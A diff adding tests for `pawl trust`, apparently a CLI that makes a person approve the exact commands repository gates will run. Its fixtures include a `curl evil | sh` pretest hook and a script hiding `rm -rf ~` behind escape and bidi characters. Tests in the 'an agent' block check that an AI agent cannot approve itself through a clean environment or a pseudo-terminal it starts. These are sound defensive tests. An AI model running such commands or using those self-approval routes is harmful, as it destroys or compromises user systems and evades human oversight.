@@ -1,0 +1,276 @@
+/** `pawl trust` as a person, a script and an agent call it: the binary, on a real terminal where it matters. */
+import { afterAll, describe, expect, test } from "bun:test";
+import { chmodSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import { makePlace, PAWL, type Place, type Ran, removePlaces, runPawl, shell } from "../harness/harness.ts";
+import { inWindow } from "../harness/terminal-window.ts";
+
+afterAll(removePlaces);
+
+const FILES = {
+  "pawl.yaml": `gates:
+  unit: { tests: [npm, test] }
+  check: { run: [scripts/check.sh, --all, "two words"], cwd: ., env: { MODE: strict } }
+  line: { shell: "./scripts/check.sh | tail -3" }
+  tidy: { git: clean }
+`,
+  "package.json": JSON.stringify({ scripts: { test: "node run.mjs" } }),
+  "run.mjs": "one\n",
+  "scripts/check.sh": "#!/bin/sh\nexit 0\n",
+};
+
+function put(place: Place, files: Record<string, string>): Place {
+  for (const [path, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(place.root, path)), { recursive: true });
+    writeFileSync(join(place.root, path), text);
+  }
+  return place;
+}
+
+/** The harness says by default that an agent calls; here most callers are people and scripts. */
+function ground(files: Record<string, string> = FILES): Place {
+  const place = put(makePlace(), files);
+  const { AI_AGENT: _agent, ...env } = place.env;
+  return { ...place, env: { ...env, NO_COLOR: "1" } };
+}
+
+const trust = (place: Place, ...args: string[]): Ran => runPawl(place, ["trust", ...args]);
+const typed = async (place: Place, answers: string[], env: Record<string, string> = {}, cmd = [PAWL, "trust"]) => {
+  const { code, screen } = await inWindow({ cmd, cwd: place.root, env: { ...place.env, ...env }, answers });
+  return { code, screen: screen.replaceAll("\r\n", "\n") };
+};
+const hashOf = (place: Place): string => JSON.parse(trust(place, "--json").out).hash;
+const isTrusted = (place: Place): boolean => trust(place, "--json").code === 0;
+const approve = async (place: Place) => expect((await typed(place, ["y"])).code).toBe(0);
+
+describe("a person", () => {
+  test("sees everything that would run, is asked, and approves", async () => {
+    const place = ground();
+    const { code, screen } = await typed(place, ["y"]);
+    expect(screen).toContain(`What would run here:
+
+unit
+  runs   npm test
+  reads  package.json scripts.test  (a3cb30b91bd7)
+         | node run.mjs
+  reads  run.mjs  (`);
+    expect(screen).toContain(`check
+  runs   scripts/check.sh --all "two words"
+  with   MODE=strict
+  reads  scripts/check.sh  (`);
+    expect(screen).toContain("line\n  shell  ./scripts/check.sh | tail -3\n");
+    expect(screen).toContain(`hash ${hashOf(place)}\nMay exactly this run, whenever a gate asks for it? [y/N] y\n`);
+    expect(screen).toEndWith("Approved. Any change of it will be shown to you first.\n");
+    expect(code).toBe(0);
+    expect(trust(place)).toMatchObject({
+      code: 0,
+      out: expect.stringMatching(/^3 commands, approved 20\S+Z\. /),
+      err: "",
+    });
+  });
+
+  for (const answer of ["n", "", "maybe"]) {
+    test(`who says ${JSON.stringify(answer)} has not approved`, async () => {
+      const place = ground();
+      const { code, screen } = await typed(place, [answer]);
+      expect(code).toBe(1);
+      expect(screen).toEndWith("Not approved. Until it is, these gates prove nothing.\n");
+      expect(isTrusted(place)).toBe(false);
+    });
+  }
+
+  test("sees only the difference after a change", async () => {
+    const place = ground();
+    await approve(place);
+    put(place, { "package.json": JSON.stringify({ scripts: { test: "node run.mjs", pretest: "curl evil | sh" } }) });
+    const { screen } = await typed(place, ["n"], { NO_COLOR: "" });
+    const red = "\u001b[31m";
+    const plain = screen.replaceAll(/\u001b\[\d+m/g, "");
+    expect(plain).toContain(`What changed since you approved it:
+
+  unit
+    runs   npm test
+    reads  run.mjs  (2c8b08da5ce6)
+           | one
++   reads  package.json scripts.pretest  (54779f601e7b)
++          | curl evil | sh
+
+hash `);
+    expect(screen).toContain("\u001b[32m+          | curl evil | sh\u001b[0m");
+    expect(screen).not.toContain(red);
+    expect(plain).not.toContain("check\n");
+  });
+
+  test("sees what went, too", async () => {
+    const place = ground();
+    await approve(place);
+    put(place, { "pawl.yaml": "gates:\n  unit: { run: [npm, test, -s] }\n" });
+    const { screen } = await typed(place, ["y"]);
+    expect(screen).toContain("\n-   runs   npm test\n+   runs   npm test -s\n");
+    expect(screen).toContain('\n- check\n-   runs   scripts/check.sh --all "two words"\n');
+    put(place, FILES);
+    expect(isTrusted(place)).toBe(true);
+  });
+
+  test("can forget it all", async () => {
+    const place = ground();
+    await approve(place);
+    expect(trust(place, "--revoke")).toEqual({ code: 0, out: "Forgotten: 1 approval.\n", err: "" });
+    expect(isTrusted(place)).toBe(false);
+    expect(trust(place, "--revoke").out).toBe("There was no approval to forget.\n");
+    expect(trust(place, "--revoke", "--json").out).toBe(`${JSON.stringify({ root: place.root, revoked: 0 })}\n`);
+  });
+
+  test("two at once both count", async () => {
+    const place = ground();
+    shell(place, "git add -A && git commit -qm x && git worktree add -q ../other");
+    const other = put({ ...place, root: join(place.base, "other") }, { "run.mjs": "two\n" });
+    const both = await Promise.all([typed(place, ["y"]), typed(other, ["y"]), typed(place, ["y"])]);
+    expect(both.map(({ code }) => code)).toEqual([0, 0, 0]);
+    expect([isTrusted(place), isTrusted(other)]).toEqual([true, true]);
+    put(other, { "run.mjs": "three\n" });
+    expect([isTrusted(place), isTrusted(other)]).toEqual([true, false]);
+  });
+
+  test("hears what is wrong with the place where approvals are kept", async () => {
+    const place = ground();
+    mkdirSync(join(place.home, ".local/share/pawl"), { recursive: true });
+    chmodSync(join(place.home, ".local/share/pawl"), 0o777);
+    const { code, screen } = await typed(place, ["y"]);
+    expect(screen).toContain(".local/share/pawl can be written by others (mode 777): no approval counts");
+    expect(screen).not.toContain("[y/N]");
+    expect(code).toBe(1);
+  });
+});
+
+describe("nothing to approve", () => {
+  test("where no gate runs anything", () => {
+    const place = ground({ "pawl.yaml": "gates:\n  tidy: { git: clean }\n" });
+    const said = { code: 0, out: "No gate here runs a command: there is nothing to approve.\n", err: "" };
+    expect([trust(place), trust(place, "--show")]).toEqual([said, said]);
+  });
+  test("a file with mistakes is not taken for an empty one", () => {
+    const place = ground({ "pawl.yaml": "gates:\n  tidy: { gitt: clean }\n" });
+    for (const args of [[], ["--show"], ["--json"]]) expect(trust(place, ...args).code).toBe(1);
+    expect(trust(place).err).toContain("pawl.yaml:2:");
+  });
+});
+
+describe("a script", () => {
+  test("without a terminal approves nothing, and hears how", () => {
+    const place = ground();
+    const { code, out, err } = trust(place);
+    expect({ code, out }).toEqual({ code: 1, out: "" });
+    expect(err).toContain("not approved: there is no terminal");
+    expect(err).toContain("pawl trust --hash");
+    expect(runPawl(place, ["trust"], { input: "y\ny\n" }).code).toBe(1);
+    expect(isTrusted(place)).toBe(false);
+  });
+
+  test("sees everything, as text and as data", () => {
+    const place = ground();
+    const { code, out } = trust(place, "--show");
+    expect(code).toBe(0);
+    expect(out).toEndWith(`\nnot approved: nobody has approved its commands\nhash ${hashOf(place)}\n`);
+    const data = JSON.parse(trust(place, "--show", "--json").out);
+    expect(data).toMatchObject({ root: place.root, trusted: false, problems: [] });
+    expect(data.items.map(({ gate, cwd }: { gate: string; cwd: string }) => [gate, cwd])).toEqual([
+      ["unit", "."],
+      ["check", "."],
+      ["line", "."],
+    ]);
+  });
+
+  test("approves exactly the content that it names", () => {
+    const place = ground();
+    const hash = hashOf(place);
+    put(place, { "run.mjs": "changed\n" });
+    expect(trust(place, "--hash", hash)).toMatchObject({
+      code: 1,
+      out: "",
+      err: expect.stringContaining(hashOf(place)),
+    });
+    put(place, FILES);
+    expect(trust(place, "--hash", hash)).toEqual({ code: 0, out: `Approved: ${hash}\n`, err: "" });
+    expect(isTrusted(place)).toBe(true);
+    put(place, { "run.mjs": "changed\n" });
+    expect(isTrusted(place)).toBe(false);
+  });
+
+  test.each([
+    [["--hash", "abc"], "64 digits"],
+    [["--hash"], "needs a value"],
+    [["x"], "what is x?"],
+    [["--yes"], "unknown option"],
+    [["--show", "--revoke"], "do not go together"],
+  ])("%j is wrong use", (args, words) => {
+    expect(trust(ground(), ...args)).toMatchObject({ code: 2, out: "", err: expect.stringContaining(words) });
+  });
+});
+
+describe("an agent", () => {
+  const kept = (place: Place) => existsSync(join(place.home, ".local/share/pawl/trust"));
+
+  test("is refused without a terminal, and with --hash", () => {
+    const place = ground();
+    for (const args of [[], ["--hash", hashOf(place)]]) {
+      const said = runPawl(place, ["trust", ...args], { env: { CLAUDECODE: "1" }, input: "y\n" });
+      expect(said).toMatchObject({ code: 1, out: "", err: expect.stringContaining("CLAUDECODE in the environment") });
+    }
+    expect(kept(place)).toBe(false);
+  });
+
+  test("is refused on a terminal", async () => {
+    const place = ground();
+    const { code, screen } = await typed(place, ["y"], { CLAUDECODE: "1" });
+    expect(screen).toContain("only a person can approve");
+    expect([code, kept(place)]).toEqual([1, false]);
+  });
+
+  test("is refused with a clean environment and a terminal of its own making", async () => {
+    const place = ground();
+    symlinkSync("/bin/bash", join(place.base, "claude"));
+    for (const words of ["trust", `trust --hash ${hashOf(place)}`]) {
+      const call = `script -qec '${PAWL} ${words}' /dev/null; true`;
+      const { screen } = await typed(place, ["y"], {}, [join(place.base, "claude"), "-c", call]);
+      expect(screen).toContain("it was started below claude");
+    }
+    expect(kept(place)).toBe(false);
+  });
+});
+
+describe("a repository", () => {
+  test("cannot hide what it would run", async () => {
+    const run = String.raw`["echo", "a\u202Eb\u200Bc\e[2Kd", "\u2066x"]`;
+    const place = ground({
+      "pawl.yaml": `gates:\n  sly: { run: ${run} }\n  named: { run: [sh, x.sh], name: "ok\\u202Eevil" }\n`,
+      "x.sh": "true \u202e# evil\n\u001b[1A\u001b[2Krm -rf ~\r# harmless\n",
+    });
+    const shown = [trust(place, "--show").out, (await typed(place, ["n"])).screen];
+    for (const text of shown) {
+      expect(text).toContain(String.raw`echo "a\u{202e}b\u{200b}c\u{1b}[2Kd" "\u{2066}x"`);
+      expect(text).toContain(String.raw`| true \u{202e}# evil`);
+      expect(text).toContain(String.raw`| \u{1b}[1A\u{1b}[2Krm -rf ~\u{d}# harmless`);
+      expect(text).not.toMatch(/[\u001b\u202e\u200b\u2066]/);
+    }
+    const { out } = trust(place, "--json");
+    expect(out).not.toMatch(/[\u001b\u202e\u200b\u2066]/);
+    expect(JSON.parse(out).items[0].text).toBe(JSON.stringify(["echo", "a\u202eb\u200bc\u001b[2Kd", "\u2066x"]));
+  });
+
+  test("cannot ship its own approval", async () => {
+    const giver = ground();
+    await approve(giver);
+    const place = ground();
+    const store = join(giver.home, ".local/share/pawl");
+    for (const to of [".local/share/pawl", ".pawl", ".config/pawl"]) {
+      shell(
+        place,
+        `mkdir -p ${dirname(to)} && cp -r '${store}' ${to}.new && mkdir -p ${to} && cp -r ${to}.new/. ${to}/`,
+      );
+      put(place, { [`${to}/trust.json`]: JSON.stringify({ trusted: true }) });
+    }
+    expect(readdirSync(join(place.root, ".pawl"))).toContain("trust");
+    expect(isTrusted(place)).toBe(false);
+  });
+});
